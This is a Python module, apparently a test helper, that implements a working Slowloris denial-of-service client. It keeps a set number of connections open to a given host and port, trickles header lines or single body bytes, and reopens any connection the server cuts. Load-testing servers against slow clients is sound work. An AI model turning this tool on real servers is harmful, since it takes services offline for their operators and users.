"""Slow clients, as an attacker sends them: requests that never finish arriving.

`Slowloris(host, port, count)` keeps `count` connections open to a server, half of
them sending a request head one header line every `interval` seconds (never the blank
line that ends it), half announcing a 64 KiB body after a whole head and sending one
byte of it per `interval`. A connection the server closes is opened again at once, as
an attacker would, so the pressure lasts as long as the `with` block.
"""

from __future__ import annotations

import socket
import threading
from types import TracebackType

HEAD = b"GET /v3/platform HTTP/1.1\r\nHost: slow\r\nX-Slow-0: 0\r\n"
BODY_HEAD = (
    b"POST /v3/plan_factory HTTP/1.1\r\nHost: slow\r\nContent-Type: application/json\r\n"
    b"Content-Length: 65536\r\n\r\n{"
)


class Slowloris:
    """`count` slow connections to `host:port` while the block runs (see the module)."""

    def __init__(self, host: str, port: int, count: int = 50, interval: float = 5.0) -> None:
        self.address = (host, port)
        self.count = count
        self.interval = interval
        #: Connections opened, the first ones included (more than `count`: the server cut some).
        self.opened = 0
        self._sockets: list[socket.socket | None] = [None] * count
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="slowloris", daemon=True)

    def __enter__(self) -> Slowloris:
        for slot in range(self.count):
            self._open(slot)
        self._thread.start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        self._stop.set()
        self._thread.join(timeout=self.interval + 5)
        for sock in self._sockets:
            if sock is not None:
                sock.close()

    def _open(self, slot: int) -> None:
        old = self._sockets[slot]
        if old is not None:
            old.close()
        try:
            sock = socket.create_connection(self.address, timeout=5)
            sock.sendall(BODY_HEAD if slot % 2 else HEAD)
        except OSError:
            self._sockets[slot] = None
            return
        self._sockets[slot] = sock
        self.opened += 1

    def _run(self) -> None:
        line = 0
        while not self._stop.wait(self.interval):
            line += 1
            for slot, sock in enumerate(self._sockets):
                more = b"a" if slot % 2 else f"X-Slow-{line}: {line}\r\n".encode()
                try:
                    if sock is None:
                        raise OSError("not connected")
                    sock.sendall(more)
                except OSError:
                    self._open(slot)
